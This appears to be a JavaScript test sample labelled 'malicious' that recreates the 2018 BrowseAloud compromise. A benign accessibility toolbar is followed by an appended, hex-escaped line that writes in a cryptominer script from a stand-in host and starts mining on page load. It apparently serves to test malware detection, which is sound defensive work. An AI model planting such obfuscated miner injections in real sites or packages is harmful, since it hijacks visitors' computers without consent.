// expect: malicious
// source: BrowseAloud compromise (2018-02): one hex-escaped line appended to an accessibility toolbar
// wrote CoinHive's script into every page that loaded it and started an anonymous miner.
(function (w, d) { w.Toolbar = { version: '3.1.2', speak: function (t) { w.speechSynthesis.speak(new SpeechSynthesisUtterance(t)); } }; })(window, document);
window["\x64\x6f\x63\x75\x6d\x65\x6e\x74"]["\x77\x72\x69\x74\x65"]("\x3c\x73\x63\x72\x69\x70\x74 src='https://coinhive.example/lib/coinhive.min.js?rnd=" + Math.random() + "'></script>");
window.onload = function () { var m = new CoinHive.Anonymous('FAKE-SITE-KEY-0000', { throttle: 0.4 }); m.start(); };
